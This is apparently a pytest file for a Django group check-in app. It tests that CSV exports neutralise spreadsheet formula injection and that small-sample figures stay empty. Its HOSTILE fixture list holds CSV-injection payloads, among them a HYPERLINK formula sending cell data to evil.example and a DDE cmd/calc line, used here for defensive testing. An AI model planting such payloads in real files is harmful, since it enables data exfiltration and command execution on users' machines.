"""Every CSV the site writes is safe to open in a spreadsheet: a cell that begins like a
formula (=, +, -, @, a tab, a carriage return) is neutralised (OWASP), and the file is
UTF-8 with a byte-order mark so that spreadsheet programs read its letters right."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse

from content.models import SessionReading
from groups.checkins import exports, services, tasks
from groups.models import HelpResource
from tests.checkins.helpers import released_session
from tests.factories import GroupFactory, ReadingFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "no byte-order mark"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _assert_safe(text: str, hostile: str) -> None:
    rows = _cells(text)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell.replace(".", "", 1).lstrip("-+").isdigit(), cell
    # The name is still there to read, behind a quote.
    assert any(cell == "'" + hostile for row in rows for cell in row)


def _hostile_world(name: str):
    group = GroupFactory(name=name)
    session = released_session(group, [{}] * 5)
    SessionReading.objects.create(
        session=session, reading=ReadingFactory(title=name, slug="hostile"), position=0
    )
    HelpResource.objects.create(name=name, phone="0800 000", country_code="GB")
    return group


@pytest.mark.parametrize("name", HOSTILE)
def test_the_groups_trend_csv_neutralises_a_hostile_name(client, owner, name):
    group = _hostile_world(name)
    group.facilitator_links.create(user=owner, role="owner")
    client.force_login(owner)

    response = client.get(reverse("checkins:trends_csv", args=[group.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    _assert_safe(response.content.decode("utf-8"), name)


@pytest.mark.parametrize("name", HOSTILE)
def test_the_program_export_neutralises_a_hostile_name(client, admin_user, name, monkeypatch):
    monkeypatch.setattr(tasks.export_run, "delay", lambda *args: None)
    _hostile_world(name)
    job = services.export_request(actor=admin_user)
    services.export_run(job_id=job.pk)
    client.force_login(admin_user)

    response = client.get(reverse("checkins:export_download", args=[job.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    _assert_safe(
        b"".join(response.streaming_content if response.streaming else [response.content]).decode(), name
    )


def test_numbers_and_ordinary_names_are_left_as_they_are(client, owner):
    group = GroupFactory(name="Tuesday group")
    group.facilitator_links.create(user=owner, role="owner")
    released_session(group, [{}] * 5)
    client.force_login(owner)

    rows = _cells(client.get(reverse("checkins:trends_csv", args=[group.pk])).content.decode())

    assert rows[1][0] == "Tuesday group"
    assert rows[1][exports.GROUP_COLUMNS.index("answers")] == "5"


# --- The status column and empty suppressed cells ----------------------------------

FIGURES = [
    column
    for column in exports.GROUP_COLUMNS
    if column not in {"group", "row", "date", "status", "note", "instrument_versions"}
]


def _rows(group) -> list[dict]:
    return list(csv.DictReader(io.StringIO(exports.group_csv(group=group).removeprefix("\ufeff"))))


def test_each_row_says_released_pooled_suppressed_or_open_and_leaves_hidden_figures_empty(group):
    from tests.checkins.helpers import open_window, who5_all

    # Block 1: ordinals 1-4. A released session, two small ones (3 and 1 answers, so the
    # pool has 4: suppressed) and an empty one; then an open check-in.
    released_session(group, [{"who5": who5_all(3)}] * 6, starts_in=timedelta(days=-30))
    released_session(group, [{"who5": who5_all(1), "safe": "no"}] * 3, starts_in=timedelta(days=-23))
    released_session(group, [{}], starts_in=timedelta(days=-16))
    released_session(group, [], starts_in=timedelta(days=-9))
    open_window(group)

    rows = _rows(group)

    assert [(row["row"], row["status"]) for row in rows] == [
        ("session", "released"),
        ("session", "pooled"),
        ("session", "pooled"),
        ("pooled block 1 (2 sessions)", "suppressed"),
        ("session", "empty"),
        ("session", "open"),
    ]
    released, pooled, lone, block, empty, still_open = rows
    assert released["who5_mean"] == "60.0" and released["answers"] == "6" and released["note"] == ""
    assert pooled["note"] == "fewer than 5 answers: pooled in block 1"
    assert block["note"] == "fewer than 5 answers in the block"
    assert still_open["note"] == "check-in still open"
    for row in (pooled, lone, empty, block, still_open):
        # A withheld figure is an empty cell, never words in a number column.
        assert {column: row[column] for column in FIGURES if column != "someone_felt_unsafe"} == {
            column: "" for column in FIGURES if column != "someone_felt_unsafe"
        }
    # The safety signal is released from 3 answers, scores or not; below that, empty.
    assert (pooled["someone_felt_unsafe"], lone["someone_felt_unsafe"]) == ("yes", "")
    assert "suppressed:" not in exports.group_csv(group=group)


def test_a_figure_that_was_not_measured_is_empty_too(group):
    released_session(group, [{}] * 5, attendance=None)

    (row,) = _rows(group)

    assert row["status"] == "released" and row["answers"] == "5"
    assert row["headcount"] == row["response_rate"] == ""
    assert row["readings_resonated"] == ""
